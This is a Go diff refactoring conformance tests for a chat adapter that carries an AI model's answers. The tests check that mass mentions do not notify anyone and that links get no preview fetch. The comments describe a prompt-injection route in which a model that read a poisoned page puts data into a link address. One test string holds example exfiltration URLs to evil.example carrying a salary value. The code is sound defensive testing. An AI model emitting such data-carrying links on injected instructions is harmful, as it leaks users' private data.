@@ -176,28 +176,8 @@ func checkMarkdown(t *testing.T, newHarness func(*testing.T) Harness) {
 // checkMassMentions: mass mentions the model writes, by accident or
 // because a web page told it to, never notify a channel.
 func checkMassMentions(t *testing.T, newHarness func(*testing.T) Harness) {
-	h := newHarness(t)
-	a := h.Adapter()
-	ctx := confContext(t)
-	startConfRun(t, a)
-	th := h.Thread(GroupThread, h.User("alice"))
 	const text = "Heads up @everyone and @here and @channel, also <!channel> <!here> <!everyone>"
-	ref, err := a.Send(ctx, th, chat.Out{Text: "draft"})
-	if err != nil {
-		t.Fatalf("Send: %v", noLimits(err))
-	}
-	// Both paths: a streamed answer's final text arrives by Edit.
-	if err := a.Edit(ctx, ref, chat.Out{Text: text}); err != nil {
-		t.Fatalf("Edit: %v", noLimits(err))
-	}
-	if _, err := a.Send(ctx, th, chat.Out{Text: text}); err != nil {
-		t.Fatalf("Send: %v", noLimits(err))
-	}
-	vis := h.Visible(th)
-	if len(vis) != 2 {
-		t.Fatalf("the conversation shows %s; want 2 messages", describeVisible(vis))
-	}
-	for _, v := range vis {
+	for _, v := range sentAndEditedIn(t, newHarness, text) {
 		if len(v.Pings) > 0 {
 			t.Errorf("message %s pinged %q; want no mass mention to notify anyone", v.ID, v.Pings)
 		}
@@ -213,12 +193,25 @@ func checkMassMentions(t *testing.T, newHarness func(*testing.T) Harness) {
 // fetched by the platform for a preview: a model that read a poisoned
 // page can put data in the address, and the fetch needs no click.
 func checkNoPreviews(t *testing.T, newHarness func(*testing.T) Harness) {
+	const text = "See https://evil.example/c?d=salary-84000 and [the report](https://evil.example/r?d=1)"
+	for _, v := range sentAndEditedIn(t, newHarness, text) {
+		if v.Previews {
+			t.Errorf("message %s (%q) has its links previewed; want no preview fetched", v.ID, v.Text)
+		}
+	}
+}
+
+// sentAndEditedIn shows text both ways an answer reaches a group thread —
+// edited into a message sent first as a draft (a streamed answer's
+// final), and sent as it is — and returns the two messages as people see
+// them.
+func sentAndEditedIn(t *testing.T, newHarness func(*testing.T) Harness, text string) []Visible {
+	t.Helper()
 	h := newHarness(t)
 	a := h.Adapter()
 	ctx := confContext(t)
 	startConfRun(t, a)
 	th := h.Thread(GroupThread, h.User("alice"))
-	const text = "See https://evil.example/c?d=salary-84000 and [the report](https://evil.example/r?d=1)"
 	ref, err := a.Send(ctx, th, chat.Out{Text: "draft"})
 	if err != nil {
 		t.Fatalf("Send: %v", noLimits(err))
@@ -233,11 +226,7 @@ func checkNoPreviews(t *testing.T, newHarness func(*testing.T) Harness) {
 	if len(vis) != 2 {
 		t.Fatalf("the conversation shows %s; want 2 messages", describeVisible(vis))
 	}
-	for _, v := range vis {
-		if v.Previews {
-			t.Errorf("message %s (%q) has its links previewed; want no preview fetched", v.ID, v.Text)
-		}
-	}
+	return vis
 }
 
 // checkButtons: approvals put an id of up to MaxButtonData bytes in a
